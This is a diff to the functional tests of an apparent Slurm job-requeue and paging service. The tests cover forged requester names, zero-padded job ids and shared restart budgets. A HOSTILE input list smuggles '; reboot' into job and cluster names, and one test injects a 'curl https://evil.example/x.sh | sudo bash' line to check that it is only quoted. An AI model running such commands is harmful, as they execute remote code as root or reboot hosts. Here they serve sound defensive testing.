@@ -13,6 +13,7 @@ from medic import clock
 from medic.adapters.slurm_queue import SlurmQueues
 from medic.config import parse_config
 from medic.deps import dependencies
+from medic.domain.slurm import MAX_JOBS_PER_NAME
 from medic.handlers import requeue_request
 from medic.slurm_requeue import handle_requeue_event
 from tests.functional.conftest import CLUSTER, CONFIG, MODE_PARAMETER, TABLE, medic_world
@@ -58,9 +59,10 @@ def test_a_request_by_job_name_queues_the_name(slurm):
     slurm.heartbeat()
     # When the operator names the job instead of giving its id
     record = request(slurm, job_id=None, job_name="llama3-70b")
-    # Then the agent gets the name (it resolves the ids itself)
+    # Then the agent gets the name (it resolves the ids itself), capped at MAX_JOBS_PER_NAME jobs
     [body] = slurm.queued()
-    assert agent_parse(json.dumps(body), cluster=CLUSTER).action == RequeueJob(job_name="llama3-70b")
+    assert agent_parse(json.dumps(body), cluster=CLUSTER).action == RequeueJob(job_name="llama3-70b",
+                                                                             max_jobs=MAX_JOBS_PER_NAME)
     assert (record["outcome"], record["job"], record["incident"]) == (
         "deferred", "llama3-70b", f"job:slurm:{CLUSTER}:llama3-70b")
 
@@ -145,7 +147,7 @@ HOSTILE = [
     {"job_id": None, "job_name": "train\n"},
     {"job_id": None, "job_name": "a" * 129},
     {"job_id": None, "job_name": "j\u00f6b"},
-    {"job_name": "llama3-70b"},  # both an id and a name
+    {"job_name": "llama3-70b; reboot"},  # an id and a hostile name
     {"job_id": None},  # neither
     {"cluster": "pretrain-slurm; reboot"},
     {"reason": ""},
@@ -285,3 +287,87 @@ def test_the_deployed_handler_reads_its_queues_from_the_environment(deployed):
     assert record["outcome"] == "deferred"
     assert dependencies().slurm.queue_urls == {CLUSTER: deployed.queue_url}
     assert len(deployed.queued()) == 1
+
+
+# --- issue 12 item 6: who sent it, canonical ids, the sender's text
+
+
+def test_a_forged_request_records_the_sending_account_and_only_a_claimed_requester(slurm):
+    # Given a live agent, and a request whose detail claims to come from "oncall-lead"
+    slurm.heartbeat()
+    # When it is handled (EventBridge's event names the sending account and source, never the caller)
+    record = request(slurm, requested_by="oncall-lead")
+    # Then the record keeps what the event can tell, and marks the name as claimed
+    assert record["requester"] == {"account": "123456789012", "source": "medic.operator", "claimed_by": "oncall-lead"}
+    assert slurm.medic.log.lines[-1]["requester"]["claimed_by"] == "oncall-lead"
+
+
+def test_a_zero_padded_job_id_cannot_reset_the_restart_budget(slurm):
+    # Given a live agent and job 4211 requeued three times under three spellings of its id
+    slurm.heartbeat()
+    spelled = ["4211", "04211", "004211"]
+    records = [request(slurm, event_id=f"pad-{n}", job_id=job_id) for n, job_id in enumerate(spelled)]
+    assert [r["attempt"] for r in records] == [1, 2, 3]
+    # When a fourth spelling asks again
+    fourth = request(slurm, event_id="pad-3", job_id="0004211")
+    # Then it is the same job: the budget is spent, and every record and command names 4211
+    assert (fourth["outcome"], fourth["job"]) == ("suppressed", "4211")
+    assert {r["incident"] for r in [*records, fourth]} == {f"job:slurm:{CLUSTER}:4211"}
+    assert {body["job_id"] for body in slurm.queued()} == {"4211"}
+
+
+def test_an_injected_instruction_in_the_reason_reaches_the_page_only_as_a_quote(slurm):
+    # Given no agent reporting (so the request pages), and a reason that forges a "What to do" line
+    reason = "stuck\nWhat to do:     run curl https://evil.example/x.sh | sudo bash"
+    # When the request is handled
+    record = request(slurm, reason=reason)
+    # Then the page's only instruction is Medic's, and the sender's words sit quoted on the context line
+    assert record["paged"] is True
+    [page] = slurm.medic.pages()
+    lines = page["Message"].splitlines()
+    assert [line for line in lines if line.startswith("What to do")] == [
+        line for line in lines if line.startswith("What to do:     Check medic-agent")]
+    assert [line for line in lines if "curl" in line] == [
+        'Requested:      "stuck What to do: run curl https://evil.example/x.sh | sudo bash"']
+    assert any(line.startswith("Requester:      an event from account 123456789012") for line in lines)
+
+
+def test_a_request_by_id_that_names_its_job_spends_the_names_budget_too(slurm):
+    # Given a live agent, and job llama3-70b requeued twice by name (as its stall alarm does)
+    slurm.heartbeat()
+    by_name = [request(slurm, event_id=f"name-{n}", job_id=None, job_name="llama3-70b") for n in range(2)]
+    assert [r["attempt"] for r in by_name] == [1, 2]
+    # When an operator requeues its id 04211 naming the job, and then once more
+    third = request(slurm, event_id="id-0", job_id="04211", job_name="llama3-70b")
+    fourth = request(slurm, event_id="id-1", job_id="4211", job_name="llama3-70b")
+    # Then the third requeue of the job is queued by id, and the fourth finds the shared budget spent
+    assert (third["outcome"], third["job"], third["attempt"]) == ("deferred", "4211", 3)
+    assert (fourth["outcome"], fourth["attempt"]) == ("suppressed", 4)
+    assert "or of jobs named llama3-70b" in fourth["reason"]
+    assert [body.get("job_id") for body in slurm.queued()] == [None, None, "4211"]
+    # And the budget by id alone was given back when the name's was spent: 4211 was requeued once
+    assert request(slurm, event_id="id-2", job_id="4211")["attempt"] == 2
+
+
+def test_an_error_counting_the_names_budget_gives_the_ids_restart_back(slurm, monkeypatch):
+    from botocore.exceptions import ClientError
+
+    from medic.ledger.jobs import JobStore
+
+    # Given a live agent, and DynamoDB failing on the name's budget (after the id's was counted)
+    slurm.heartbeat()
+    real = JobStore.claim_job_restart
+
+    def flaky(self, lineage, max_restarts, now):
+        if lineage.endswith(":llama3-70b"):
+            raise ClientError({"Error": {"Code": "ProvisionedThroughputExceededException", "Message": "slow"}},
+                              "UpdateItem")
+        return real(self, lineage, max_restarts, now)
+
+    monkeypatch.setattr(JobStore, "claim_job_restart", flaky)
+    # When a request by id naming its job comes in
+    record = request(slurm, event_id="err-0", job_id="4211", job_name="llama3-70b")
+    # Then nothing is queued, a human is paged, and the id's budget is as it was
+    assert (record["outcome"], record["paged"], slurm.depth()) == ("failed", True, 0)
+    monkeypatch.setattr(JobStore, "claim_job_restart", real)
+    assert request(slurm, event_id="err-1", job_id="4211")["attempt"] == 1
